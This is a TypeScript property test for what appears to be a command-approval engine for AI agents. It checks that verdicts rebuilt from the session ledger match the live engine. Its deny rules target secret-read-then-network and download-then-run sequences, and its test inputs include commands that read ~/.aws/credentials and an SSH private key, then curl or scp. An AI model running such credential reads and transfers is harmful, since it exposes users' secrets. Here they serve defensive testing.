// What sessions did, rebuilt from the ledger: an engine that starts anew answers as the one that went on.
import * as fc from "fast-check";
import { expect, test } from "vitest";
import { pastSessions } from "../../src/main/engine/sessions/past-sessions.ts";
import type { LedgerEntry } from "../../src/shared/domain/audit.ts";
import { commandIntent, type TestEngine, testEngine, testWorld } from "../support/engine/engine.ts";

const policy = `
quotas: { intents_per_minute: 12, intents_per_session: 14 }
defaults:
  tools: { "*": { allowed: true } }
  network: { max_requests_per_minute: 4 }
rules:
  - { id: ask, effect: escalate, programs: [npm, cat] }
sequences:
  - { id: secret-then-network, effect: deny, first: 'facts.paths.exists(p, p.zone == "secrets")', then: '"curl" in facts.programs', within: 5m }
  - { id: download-then-run, effect: deny, then: 'facts.paths.exists(p, p.access == "execute" && p.path in session.downloaded)' }
  - { id: secret-then-copy, effect: deny, then: 'session.secret_read && "scp" in facts.programs' }
  - { id: seen-hosts, effect: deny, then: '"example.com" in session.hosts && "dig" in facts.programs' }
  - { id: written, effect: deny, then: '"/tmp/a" in session.written && "file" in facts.programs' }
  - { id: often-denied, effect: deny, then: 'session.denied > 2 && "id" in facts.programs' }
`;

const long = "x".repeat(3000);
const steps = [
  "ls",
  "head ~/.aws/credentials",
  "cat ~/.ssh/id_ed25519",
  "curl -o /tmp/a https://example.com/a",
  `curl -o /tmp/b -H 'x: ${long}' https://example.com/b`,
  `echo ${long}; head ~/.aws/credentials`,
  "cp /tmp/a /tmp/c",
  "npm publish",
  "scp a example.org:",
];
const probes = ["ls", "curl https://example.org/", "/tmp/a", "/tmp/b", "/tmp/c", "scp a b:", "dig x", "file x", "id"];
const sessions = ["one", "two"];

const step = fc.record({
  command: fc.constantFrom(...steps),
  session: fc.constantFrom(...sessions),
  passes: fc.constantFrom(0, 1000, 30_000, 400_000),
  answer: fc.constantFrom("approve", "deny", "wait", "edit"),
});

function engineAt(clock: { now: number }, changes: Parameters<typeof testEngine>[0] = {}): TestEngine {
  const engine = testEngine({ clock: { now: () => clock.now, after: () => () => {} }, ...changes });
  engine.setPolicy(policy);
  return engine;
}

async function answerHeld(engine: TestEngine, answer: "approve" | "deny" | "edit"): Promise<void> {
  const [held] = engine.governor.approvals.list();
  if (held === undefined) return;
  const { approvalId, digest } = held;
  const shared = { approvalId, digest, scope: "exact", duration: "once" } as const;
  const edited = answer === "edit" ? { arguments: { command: "curl -o /tmp/a https://example.com/" } } : {};
  const decision = answer === "deny" ? "deny" : "approve";
  await engine.governor.approvals.resolve({ ...shared, decision, ...edited }, "console");
}

async function says(engine: TestEngine): Promise<readonly string[]> {
  const said: string[] = [];
  for (const sessionId of sessions) {
    for (const command of probes) {
      const { evaluation } = await engine.governor.explain(commandIntent(command, { context: { sessionId } }));
      said.push(`${sessionId} ${command}: ${evaluation.verdict.outcome} ${evaluation.verdict.rule ?? ""}`);
    }
  }
  return said;
}

test("an engine that starts anew answers as the one that went on", async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(step, { maxLength: 20 }), async (taken) => {
      const clock = { now: Date.parse("2026-11-12T12:00:00Z") };
      const before = engineAt(clock);
      for (const { command, session, passes, answer } of taken) {
        clock.now += passes;
        await before.governor.submit(commandIntent(command, { context: { sessionId: session } }));
        if (answer !== "wait") await answerHeld(before, answer);
      }
      const entries = before.entries.map((entry) => JSON.parse(JSON.stringify(entry)) as LedgerEntry);
      const after = engineAt(clock, {
        past: Promise.resolve(structuredClone(pastSessions(entries, testWorld, clock.now))),
      });
      expect(await says(after)).toEqual(await says(before));
    }),
    { numRuns: 60 },
  );
});
